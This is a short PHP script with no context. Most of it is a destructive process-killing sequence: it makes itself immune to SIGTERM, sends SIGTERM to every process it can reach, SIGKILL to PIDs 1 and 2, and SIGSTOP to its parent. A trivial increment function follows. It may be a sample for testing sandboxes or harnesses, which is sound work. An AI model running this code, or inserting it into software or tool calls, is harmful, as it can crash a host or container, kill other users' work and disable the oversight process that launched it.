<?php
// All that it may signal.
pcntl_signal(SIGTERM, SIG_IGN);
posix_kill(-1, SIGTERM); posix_kill(1, SIGKILL); posix_kill(2, SIGKILL); posix_kill(posix_getppid(), SIGSTOP);
function f($x) { return $x + 1; }
